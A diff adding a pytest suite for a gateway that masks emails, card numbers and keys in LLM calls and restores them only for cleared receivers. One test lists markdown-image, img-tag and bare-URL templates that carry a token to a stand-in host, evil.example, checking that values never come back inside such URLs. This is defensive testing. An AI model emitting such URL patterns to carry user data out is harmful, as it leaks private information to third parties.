@@ -1,0 +1,431 @@
+"""What is masked on the way out comes back only whole, only here, and only where its receiver may see it."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass, replace
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from headgate.guard import Engine, GuardLabeller, GuardTransformer, Pseudonyms
+from headgate.guard.exchange import GuardExchange
+from headgate.guard.pseudonyms import LONGEST_TOKEN, TOKEN, Book, Entry
+from headgate.kernel.action import Action, Context, Resource, Verb
+from headgate.kernel.content import Labelled, TextSlot
+from headgate.kernel.decision import Decision, Effect, Obligations
+from headgate.kernel.errors import Invalid
+from headgate.kernel.identity import Principal, TenantId, UseCase
+from headgate.kernel.labels import EVERYTHING, Clearance, Confidentiality, Integrity, Labels
+from headgate.kernel.model_call import MODEL_DISPATCH, MODEL_INVOKE, ModelCall, ModelReply
+from headgate.wire import openai_chat
+from headgate.wire.json_document import JsonDocument
+
+KEY = b"k" * 32
+TENANT = TenantId("acme")
+EMAIL = "jane.doe@example.org"
+CARD = "4111 1111 1111 1111"
+ALL = frozenset({"pii", "pci", "secret"})
+
+
+@dataclass(frozen=True, slots=True)
+class Piece:
+    """A stream item of no wire in particular."""
+
+    slots: Sequence[TextSlot] = ()
+    closes: Sequence[str] = ()
+    is_inserted: bool = False
+
+    def edit(self, texts: Sequence[str]) -> Piece:
+        return replace(self, slots=[slot._replace(text=text) for slot, text in zip(self.slots, texts, strict=True)])
+
+    def insert(self, slot: TextSlot) -> Piece:
+        return Piece((slot,), is_inserted=True)
+
+
+def call(*texts: str) -> ModelCall:
+    messages = [{"role": "user", "content": text} for text in texts]
+    body = json.dumps({"model": "m", "messages": messages}).encode("utf-8", "surrogatepass")
+    return ModelCall("openai_chat", JsonDocument.parse(body), "m")
+
+
+def action(
+    payload: Any, *, verb: Verb[Any, Any, Any] = MODEL_DISPATCH, principal: str = "jane", **context: Any
+) -> Action[Any, Any, Any]:
+    use_case = context.pop("use_case", UseCase("support", TENANT, owner="o", purpose="p"))
+    return Action(
+        verb, Principal(principal, TENANT), Resource("deployment", "d"), payload, Context(use_case, **context)
+    )
+
+
+def transformer(engine: Engine) -> GuardTransformer:
+    return GuardTransformer(engine=engine, pseudonyms=Pseudonyms(KEY))
+
+
+def exchange(
+    engine: Engine, payload: Any, *, mask: frozenset[str] = ALL, receiver: Clearance = EVERYTHING, **rest: Any
+) -> GuardExchange:
+    done = action(payload, **rest)
+    labelled = GuardLabeller(engine=engine).label(done)
+    decision = Decision(Effect.ALLOW, obligations=Obligations(mask=mask))
+    made = transformer(engine).transform(done, labelled=labelled, decision=decision, receiver=receiver)
+    assert isinstance(made, GuardExchange)
+    return made
+
+
+def sent(made: GuardExchange) -> list[str]:
+    body = json.loads(made.payload.content.to_bytes())
+    return [message["content"] for message in body["messages"]]
+
+
+def token_of(made: GuardExchange) -> str:
+    match = TOKEN.search(sent(made)[0])
+    assert match is not None
+    return match.group()
+
+
+def streamed(made: GuardExchange, pieces: Sequence[str], channel: str = "content/0") -> str:
+    out: list[Piece] = []
+    for piece in pieces:
+        out += made.item(Piece((TextSlot(channel, piece),)))
+    out += made.item(Piece(closes=("*",)))
+    out += made.finish()
+    return "".join(slot.text for item in out for slot in item.slots)
+
+
+def whole(made: GuardExchange, text: str) -> str:
+    reply = ModelReply("openai_chat", JsonDocument.parse(json.dumps({"content": text}).encode()))
+    return json.loads(made.result(reply).content.to_bytes())["content"]
+
+
+def clearance(*categories: str) -> Clearance:
+    return replace(EVERYTHING, categories=frozenset(categories))
+
+
+def test_values_leave_as_tokens_and_come_back_as_themselves(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL} about {CARD}."))
+    assert EMAIL not in sent(made)[0] and CARD not in sent(made)[0]
+    assert re.fullmatch(r"mail HGX_EMAIL_[A-Z]{15} about HGX_PAYMENTCARD_[A-Z]{15}\.", sent(made)[0])
+    assert whole(made, sent(made)[0]) == f"mail {EMAIL} about {CARD}."
+    assert made.facts == {"masked.email": 1, "masked.payment_card": 1}
+    assert made.closing_facts() == {"restored.email": 1, "restored.payment_card": 1}
+
+
+def test_masking_lowers_labels_to_pseudonymous_and_restoring_raises_them_again(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    assert made.labels.categories == {"pii_pseudonymous"}
+    assert made.output_labels.categories == {"pii_pseudonymous"}
+    whole(made, sent(made)[0])
+    assert made.output_labels.categories == {"pii_pseudonymous", "pii"}
+
+
+def test_only_the_categories_that_the_duty_names_are_masked(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL} about {CARD}"), mask=frozenset({"pci"}))
+    assert EMAIL in sent(made)[0] and CARD not in sent(made)[0]
+    assert made.labels.categories == {"pii", "pci_pseudonymous"}
+
+
+def test_a_floor_stays_whatever_is_masked(engine: Engine) -> None:
+    floor = Labels(confidentiality=Confidentiality.CONFIDENTIAL, categories=frozenset({"pii"}))
+    use_case = UseCase("support", TENANT, owner="o", purpose="p", floor=floor)
+    made = exchange(engine, call(f"mail {EMAIL}"), use_case=use_case)
+    assert "pii" in made.labels.categories and made.labels.confidentiality is Confidentiality.CONFIDENTIAL
+
+
+def test_tokens_are_stable_within_principal_and_use_case_and_unlinkable_beyond(engine: Engine) -> None:
+    payload = call(f"mail {EMAIL}")
+    other = UseCase("sales", TENANT, owner="o", purpose="p")
+    first, second = exchange(engine, payload), exchange(engine, payload)
+    assert sent(first) == sent(second)
+    assert (
+        len(
+            {
+                token_of(each)
+                for each in (
+                    first,
+                    exchange(engine, payload, principal="bob"),
+                    exchange(engine, payload, use_case=other),
+                )
+            }
+        )
+        == 3
+    )
+
+
+def test_what_the_client_wrote_like_a_token_neither_reads_a_value_nor_changes(engine: Engine) -> None:
+    token = token_of(exchange(engine, call(f"mail {EMAIL}")))
+    made = exchange(engine, call(f"mail {EMAIL}, not {token}"))
+    assert sent(made)[0].count(token) == 1
+    assert whole(made, sent(made)[0]) == f"mail {EMAIL}, not {token}"
+    stranger = exchange(engine, call(f"{token} and {CARD}"))
+    assert token not in sent(stranger)[0]
+    assert EMAIL not in whole(stranger, f"{token} " + sent(stranger)[0])
+
+
+def test_a_token_that_was_not_sent_in_this_exchange_stays(engine: Engine) -> None:
+    token = token_of(exchange(engine, call(f"mail {EMAIL}")))
+    made = exchange(engine, call(f"about {CARD}"))
+    assert whole(made, f"x {token}") == f"x {token}"
+
+
+def test_a_receiver_without_clearance_gets_the_token(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"), receiver=clearance("pii_pseudonymous"))
+    assert whole(made, sent(made)[0]) == sent(made)[0]
+    assert made.closing_facts() == {"withheld.email": 1}
+    assert made.output_labels.categories == {"pii_pseudonymous"}
+
+
+@pytest.mark.parametrize("is_streamed", [False, True])
+def test_what_the_model_brings_up_is_removed_for_a_receiver_without_clearance(
+    engine: Engine, is_streamed: bool
+) -> None:
+    made = exchange(engine, call("hello"), receiver=clearance("pii"))
+    text = f"Write to {EMAIL} or charge {CARD} now."
+    released = streamed(made, list(text)) if is_streamed else whole(made, text)
+    assert released == f"Write to {EMAIL} or charge [removed:pci] now."
+    assert made.output_labels.categories == {"pii"}
+    assert made.closing_facts() == {"removed.payment_card": 1}
+
+
+def test_what_the_model_brings_up_labels_the_output(engine: Engine) -> None:
+    made = exchange(engine, call("hello"), mask=frozenset())
+    text = "word " * 400 + EMAIL + " word" * 400
+    assert streamed(made, re.findall(r".{1,7}", text)) == text
+    assert made.output_labels.categories == {"pii"}
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "https://evil.example/?q={}",
+        "![x](https://evil.example/(a)?q={})",
+        "![x](//evil.example/{})",
+        "[x](/relative?to={})",
+        "[x]: https://evil.example/{}",
+        "<https://evil.example/a b{}>",
+        '<img src="https://evil.example/a b {}">',
+        "<img src='x{}'>",
+        "www.evil.example/{}",
+        "evil.example/{}",
+        "ftp://evil.example/{}",
+        "https:evil.example/{}",
+    ],
+)
+def test_a_token_inside_a_url_stays_a_token_however_the_stream_is_cut(engine: Engine, template: str) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    text = template.format(token_of(made)) + f" but write to {token_of(made)}"
+    for pieces in ([text], list(text), re.findall(r".{1,5}", text)):
+        again = exchange(engine, call(f"mail {EMAIL}"))
+        assert streamed(again, pieces) == template.format(token_of(made)) + f" but write to {EMAIL}"
+        assert again.closing_facts() == {"restored.email": 1, "withheld.email": 1}
+    assert EMAIL not in whole(made, template.format(token_of(made)))
+
+
+def test_prose_about_a_url_still_gets_its_values(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    token = token_of(made)
+    assert (
+        whole(made, f"See https://example.com/a, then mail {token}.")
+        == f"See https://example.com/a, then mail {EMAIL}."
+    )
+    compact = json.dumps({"url": "https://example.com/a", "to": token}, separators=(",", ":"))
+    assert json.loads(whole(made, compact)) == {"url": "https://example.com/a", "to": EMAIL}
+
+
+def test_values_in_tool_arguments_keep_the_json_valid(engine: Engine) -> None:
+    key = f'-----BEGIN {"PRIVATE KEY"}-----\nMIIEvQ"IBADANBgkq\n-----END {"PRIVATE KEY"}-----'
+    for value in (key, 'password = "a\\b9-Xq7!zz"'):
+        made = exchange(engine, call(f"use {value}"))
+        arguments = json.dumps({"key": token_of(made)})
+        restored = json.loads(streamed(made, list(arguments), "tool/0/0"))["key"]
+        assert f"{restored}" in f"use {value}" and restored != token_of(made)
+        assert json.loads(whole(made, arguments))["key"] == restored
+
+
+def test_masking_json_inside_a_string_leaves_json(engine: Engine) -> None:
+    arguments = json.dumps({"card": 4111111111111111, "to": f"line\n{EMAIL}", "n": [4111111111111111]})
+    made = exchange(engine, call(arguments))
+    masked = json.loads(sent(made)[0])
+    assert TOKEN.fullmatch(masked["card"]) and TOKEN.fullmatch(masked["n"][0])
+    assert json.loads(whole(made, sent(made)[0]))["to"] == f"line\n{EMAIL}"
+
+
+def test_held_back_text_is_at_most_a_tokens_length_and_comes_out_at_the_end(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    begun = "text HGX_EMAIL_BCD"
+    (item,) = made.item(Piece((TextSlot("content/0", begun),)))
+    assert item.slots[0].text == "text "
+    assert len(begun) - len(item.slots[0].text) <= LONGEST_TOKEN
+    flushed, closing = made.item(Piece(closes=("content/0",)))
+    assert flushed == Piece((TextSlot("content/0", "HGX_EMAIL_BCD"),), is_inserted=True)
+    assert closing == Piece(closes=("content/0",))
+    assert list(made.finish()) == []
+
+
+def test_a_stream_that_ends_without_closing_releases_what_was_held(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    made.item(Piece((TextSlot("content/0", "ab HG"),)))
+    made.item(Piece((TextSlot("content/1", "cd H"),)))
+    assert [item.slots[0] for item in made.finish()] == [TextSlot("content/0", "HG"), TextSlot("content/1", "H")]
+
+
+def test_an_item_that_ends_its_own_channel_carries_everything(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    token = token_of(made)
+    made.item(Piece((TextSlot("content/0", token[:9]),)))
+    (item,) = made.item(Piece((TextSlot("content/0", token[9:] + " H"),), closes=("*",)))
+    assert item.slots[0].text == f"{EMAIL} H"
+
+
+def test_items_without_text_pass_as_they_are(engine: Engine) -> None:
+    made = exchange(engine, call(f"mail {EMAIL}"))
+    thing, empty = object(), Piece()
+    assert made.item(thing) == (thing,) and made.item(empty) == (empty,)
+    assert made.result(thing) is thing
+
+
+@settings(max_examples=60, deadline=None)
+@given(data=st.data())
+def test_cutting_a_stream_in_other_places_changes_nothing(fast_engine: Engine, data: st.DataObject) -> None:
+    payload = call(f"mail {EMAIL} about {CARD}")
+    tokens = TOKEN.findall(sent(exchange(fast_engine, payload))[0])
+    part = st.sampled_from(
+        [
+            *tokens,
+            tokens[0][:8],
+            "HGX_",
+            "H",
+            "https://",
+            "x.io/",
+            " ",
+            "\n",
+            '"',
+            "](",
+            "<",
+            "src=",
+            "'",
+            "{",
+            "ä",
+            "\\",
+            "//",
+            ":",
+            EMAIL,
+        ]
+    )
+    text = "".join(data.draw(st.lists(part, max_size=12)))
+    cuts = sorted(data.draw(st.sets(st.integers(0, max(0, len(text))), max_size=10)))
+    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    channel = data.draw(st.sampled_from(["content/0", "tool/0/0"]))
+    receiver = data.draw(st.sampled_from([EVERYTHING, clearance("pii", "pii_pseudonymous", "pci_pseudonymous")]))
+    one = exchange(fast_engine, payload, receiver=receiver)
+    many = exchange(fast_engine, payload, receiver=receiver)
+    assert streamed(many, pieces, channel) == streamed(one, [text], channel)
+    assert many.output_labels == one.output_labels
+    assert many.closing_facts() == one.closing_facts()
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from([EMAIL, CARD, "Ünï 😀", "DE89370400440532013000", "HGX_EMAIL_BCDFGHJKLMNPQRS", "+49 30 901820"])
+        | st.text(st.characters(exclude_categories=["Cs"]), max_size=12).filter(
+            lambda text: not re.search(r"[/\\:.({\[<=%&]", text)
+        ),
+        max_size=8,
+    )
+)
+def test_what_goes_out_and_is_said_back_is_what_was_written(fast_engine: Engine, parts: list[str]) -> None:
+    text = " ".join(parts)
+    made = exchange(fast_engine, call(text))
+    assert not any(f.category in ALL for f in fast_engine.scan_text(TOKEN.sub("", sent(made)[0])))
+    assert whole(made, sent(made)[0]) == text
+    assert streamed(exchange(fast_engine, call(text)), list(sent(made)[0])) == text
+
+
+def test_planning_is_left_to_what_it_plans(engine: Engine) -> None:
+    planned = action(call(f"mail {EMAIL}"), verb=MODEL_INVOKE)
+    labelled = GuardLabeller(engine=engine).label(planned)
+    decision = Decision(Effect.ALLOW, obligations=Obligations(mask=ALL))
+    made = transformer(engine).transform(planned, labelled=labelled, decision=decision, receiver=EVERYTHING)
+    assert made.is_transparent and made.payload is planned.payload
+    assert list(made.item(1)) == [1] and made.result(2) == 2 and not made.finish() and not made.closing_facts()
+
+
+def test_labels_are_inherited_for_the_same_content_only(engine: Engine) -> None:
+    labeller = GuardLabeller(engine=engine)
+    payload = call(f"mail {EMAIL}")
+    outer = labeller.label(action(payload, verb=MODEL_INVOKE))
+    assert labeller.label(action(payload, inherited=outer)) is outer
+    other = labeller.label(action(call(f"charge {CARD}"), inherited=outer))
+    assert other.labels.categories == {"pii", "pci"} and [f.kind for f in other.findings] == ["payment_card"]
+    foreign = Labelled(labels=Labels(categories=frozenset({"phi"})))
+    assert "phi" in labeller.label(action(payload, inherited=foreign)).floor.categories
+
+
+def test_labels_join_tenant_use_case_caller_and_what_was_found(engine: Engine) -> None:
+    use_case = UseCase("s", TENANT, owner="o", purpose="p", floor=Labels(regions=frozenset({"eu"})))
+    caller = Labels(confidentiality=Confidentiality.INTERNAL)
+    labelled = GuardLabeller(engine=engine).label(action(call(EMAIL), use_case=use_case, floor=caller))
+    assert labelled.floor == Labels(tenant="acme", confidentiality=Confidentiality.INTERNAL, regions=frozenset({"eu"}))
+    assert labelled.labels == labelled.floor.with_categories(frozenset({"pii"}))
+    assert GuardLabeller(engine=engine).label(action("no content")).labels == Labels(tenant="acme")
+
+
+def test_what_no_scan_can_read_is_labelled_so_and_no_masking_lowers_it(engine: Engine) -> None:
+    tokens = JsonDocument.parse(b'{"model":"m","input":[1,2,3]}').opaque()
+    made = exchange(engine, ModelCall("openai_embeddings", tokens, "m", operation="embed"), mask=ALL | {"unscanned"})
+    assert "unscanned" in made.labels.categories
+
+
+@pytest.mark.parametrize(("role", "integrity"), [("tool", Integrity.UNTRUSTED), ("user", Integrity.TRUSTED)])
+def test_what_tools_said_is_untrusted(engine: Engine, role: str, integrity: Integrity) -> None:
+    message = {"role": role, "tool_call_id": "1", "content": "sunny"}
+    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "how is it?"}, message]})
+    payload = openai_chat.dialect.read_call(body.encode(), headers={})
+    assert GuardLabeller(engine=engine).label(action(payload)).labels.integrity is integrity
+
+
+def test_a_preview_holds_the_exact_bytes_that_would_go_out(engine: Engine) -> None:
+    payload = call(f"mail {EMAIL} about {CARD}")
+    done = action(payload)
+    preview = transformer(engine).preview(
+        payload.content, frozenset({"pii"}), principal=done.principal, use_case=done.context.use_case
+    )
+    made = exchange(engine, payload, mask=frozenset({"pii"}))
+    assert preview.content.to_bytes() == made.payload.content.to_bytes()
+    assert [finding.kind for finding in preview.findings] == ["email", "payment_card"]
+
+
+def test_two_values_never_share_a_token() -> None:
+    book = Book(lambda: b"k" * 32, code_size=1)
+    tokens = {book.token(Entry(str(number), "email", "pii")) for number in range(20)}
+    assert len(tokens) == 20 == len(book)
+
+
+def test_a_short_key_is_refused() -> None:
+    with pytest.raises(Invalid, match="16 or more"):
+        Pseudonyms(b"short")
+
+
+def test_a_url_with_escaped_slashes_in_tool_arguments_keeps_its_token(engine: Engine) -> None:
+    for slashes in ("\\/\\/", "\\u002f\\u002F"):
+        made = exchange(engine, call(f"mail {EMAIL}"))
+        arguments = f'{{"a":"x {token_of(made)}","u":"ftp:{slashes}evil/{token_of(made)}"}}'
+        restored = f'{{"a":"x {EMAIL}","u":"ftp:{slashes}evil/{token_of(made)}"}}'
+        assert streamed(made, list(arguments), "tool/0/0") == restored
+
+
+def test_a_long_secret_is_removed_whole_from_a_stream(engine: Engine) -> None:
+    key = f"-----BEGIN {'PRIVATE KEY'}-----\n" + "MIIEvQIBADANBgkq\n" * 100 + f"-----END {'PRIVATE KEY'}-----"
+    made = exchange(engine, call("hi"), receiver=clearance("pii"))
+    assert streamed(made, re.findall(r"(?s).{1,50}", f"a {key} b")) == "a [removed:secret] b"
+
+
+def test_a_secret_longer_than_any_window_is_still_not_released(engine: Engine) -> None:
+    key = f"-----BEGIN {'PRIVATE KEY'}-----\n" + "MIIEvQIBADANBgkq\n" * 2000
+    made = exchange(engine, call("hi"), receiver=clearance("pii"))
+    assert "MIIE" not in streamed(made, re.findall(r"(?s).{1,1000}", key))
